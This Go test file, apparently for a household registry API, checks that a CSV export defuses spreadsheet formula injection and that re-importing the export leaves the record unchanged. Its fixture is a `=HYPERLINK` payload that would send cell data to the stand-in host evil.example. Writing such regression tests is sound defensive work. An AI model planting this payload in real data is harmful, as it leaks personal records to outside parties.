package httpapi_test

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"fupin/internal/dbtest"
	"fupin/internal/sqlstore"
)

// A formula typed into the registry leaves a CSV export as text (leading apostrophe), and the
// export imports back as no change.
func TestCSVExportFormulaInjection(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, db *sqlstore.DB) {
		srv := newServer(t, db)
		admin := &client{t: t, srv: srv, token: adminToken}
		const formula = `=HYPERLINK("http://evil.example/?d="&A2,"点击查看")`
		body := strings.Replace(household(id("512226", "19600101", 71), id("512226", "19620202", 72), "500236266208"),
			`{"village_code"`, `{"address":`+strconvQuote(formula)+`,"natural_village":"-1组","village_code"`, 1)
		mustDo(t, admin, 201, "POST", "/api/v1/households", body)
		out := get(t, srv, adminToken, "/api/v1/exports?area=500236266&format=csv")
		recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, rec := range recs {
			for _, c := range rec {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("CSV cell %q would run as a formula", c)
				}
				found = found || c == "'"+formula
			}
		}
		if !found {
			t.Errorf("the address is not in the export as quoted text:\n%.600s", out)
		}
		job := waitJob(t, admin, upload(t, srv, "台账.csv", out))
		if job["state"] != "done" || job["unchanged"] != float64(1) {
			t.Errorf("re-import of the export = %v, want the household unchanged", job)
		}
	})
}

func strconvQuote(s string) string {
	b, _ := jsonMarshal(s)
	return string(b)
}

func jsonMarshal(v any) ([]byte, error) { return json.Marshal(v) }
